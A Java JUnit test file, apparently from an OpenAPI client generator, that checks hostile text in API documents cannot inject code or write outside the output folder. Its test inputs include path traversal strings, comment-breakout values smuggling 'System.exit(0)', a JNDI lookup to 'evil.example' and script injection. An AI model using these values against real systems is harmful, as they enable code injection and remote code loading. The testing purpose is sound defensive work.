/*
 * Copyright 2026 the Atlas client pipeline authors.
 *
 * Licensed under the Apache License, Version 2.0 (the "License");
 * you may not use this file except in compliance with the License.
 * You may obtain a copy of the License at
 *
 *     https://www.apache.org/licenses/LICENSE-2.0
 *
 * Unless required by applicable law or agreed to in writing, software
 * distributed under the License is distributed on an "AS IS" BASIS,
 * WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
 * See the License for the specific language governing permissions and
 * limitations under the License.
 */
package io.atlasclient.generator.hostile;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import com.fasterxml.jackson.databind.node.JsonNodeFactory;
import io.atlasclient.generator.SourceTree;
import io.atlasclient.generator.output.SourceTreeWriter;
import io.atlasclient.generator.testing.Compilation;
import io.atlasclient.generator.testing.Documents;
import io.atlasclient.specs.ProblemsException;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.regex.Pattern;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

/** One text in all places of a document: names, values, descriptions, paths, tags. */
class HostileTextTest {
    private static final Pattern PATH =
            Pattern.compile("org/sample/(model|query|v20010101)/[A-Za-z0-9_-]{1,140}\\.java");
    private static final List<String> HARMLESS =
            SourceShape.of(sources("harmless").files());

    static List<String> texts() {
        return List.of(
                "../../x",
                "..\\..\\x",
                "/etc/passwd",
                "a/b",
                "class",
                "x".repeat(300),
                "\\u002a\\u002f System.exit(0); \\u002f\\u002a",
                "*/ System.exit(0); /*",
                "*&#47; } static { System.exit(0); } /*",
                "\"); System.exit(0); (\"",
                "\"\"\" + System.exit(0) + \"\"\"",
                "\\\"); System.exit(0); (\\\"",
                "a\nSystem.exit(0);\n// b",
                "a\rSystem.exit(0);\r// b",
                "a\u2028b\u0085c\u000cd",
                "\\u000a System.exit(0); //",
                "${jndi:ldap://evil.example/x}",
                "$T $L $S $$ $N $>",
                "{{x}} {{{y}}} {{#z}} {{>enum}} {{!",
                "%s %n %1$s %",
                "{@code } {@link #x} {@inheritDoc} {@",
                "@deprecated\n@throws x\n@param y",
                "<script>alert(1)</script> <p <!-- &amp &#x",
                "```\n*/ System.exit(0);\n``` `*/` [*/](javascript:alert(1)) ![x](*/)",
                "- *\n- /\n\n1. *\n\n> */\n\n***\n\n# */",
                "\u202e\u2066 evil \u2069",
                "\u00e4\u00f6\u00fc \u4f60\u597d \ud83d\ude00",
                "\u0000",
                "'",
                "a~b~0~1%2F%00",
                "ModelCodecs",
                "AtlasApi",
                "package-info");
    }

    @ParameterizedTest
    @MethodSource("texts")
    void becomesSourcesThatCompileAndHoldNoCodeOfTheDocument(String text) {
        SourceTree sources = sources(text);
        Compilation.compile(sources.files());
        assertThat(SourceShape.of(sources.files())).isEqualTo(HARMLESS);
    }

    @ParameterizedTest
    @MethodSource("texts")
    void isWrittenInsideTheOutputFolderOnly(String text, @TempDir Path folder) throws IOException {
        Path output = folder.resolve("deep").resolve("output");
        new SourceTreeWriter(output).write(sources(text), "fingerprint");
        try (Stream<Path> files = Files.walk(folder)) {
            assertThat(files.filter(Files::isRegularFile))
                    .isNotEmpty()
                    .allSatisfy(file -> assertThat(file).startsWith(output));
        }
    }

    @ParameterizedTest
    @MethodSource("texts")
    void isRefusedAsTheNameOfASchemaUnlessItIsPlain(String text) {
        String document = HostileText.document("harmless").tree().toString().replace("Variantharmless", escaped(text));
        if (text.matches("[a-zA-Z0-9._-]+")) {
            Compilation.compile(
                    Documents.generate(Documents.read("openapi.json", document)).files());
        } else {
            assertThatThrownBy(() -> Documents.read("openapi.json", document))
                    .isInstanceOf(ProblemsException.class)
                    .hasMessageStartingWith("openapi.json#/components/schemas: ")
                    .hasMessageNotContaining("\n");
        }
    }

    @Test
    void halfOfASurrogatePairIsNoName() {
        assertThatThrownBy(() -> sources("\ud83d lone"))
                .isInstanceOf(ProblemsException.class)
                .hasMessageStartingWith("openapi.json#/paths: ")
                .hasMessageContaining(" is not JSON: the name before this place has half a surrogate pair")
                .hasMessageNotContaining("\n");
    }

    private static String escaped(String text) {
        String json = HostileText.json(JsonNodeFactory.instance.textNode(text));
        return json.substring(1, json.length() - 1);
    }

    private static SourceTree sources(String text) {
        SourceTree sources = Documents.generate(HostileText.document(text));
        assertThat(sources.files().keySet().stream()
                        .filter(path -> !PATH.matcher(path).matches()))
                .isEmpty();
        return sources;
    }
}
